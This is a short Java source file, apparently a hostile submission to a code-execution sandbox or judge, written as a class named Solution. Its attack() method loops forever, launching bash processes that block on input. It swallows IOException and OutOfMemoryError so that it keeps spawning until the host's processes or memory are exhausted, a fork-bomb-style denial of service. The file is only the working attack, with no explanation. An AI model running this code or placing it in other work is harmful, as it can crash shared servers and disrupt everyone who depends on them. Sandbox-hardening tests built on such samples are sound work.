import java.io.IOException;

class Solution {
    static void attack() {
        while (true) {
            try {
                new ProcessBuilder("/usr/bin/bash", "-c", "read line").start();
            } catch (IOException | OutOfMemoryError refused) {
                // No process, or no thread to wait for it: once more.
            }
        }
    }
}
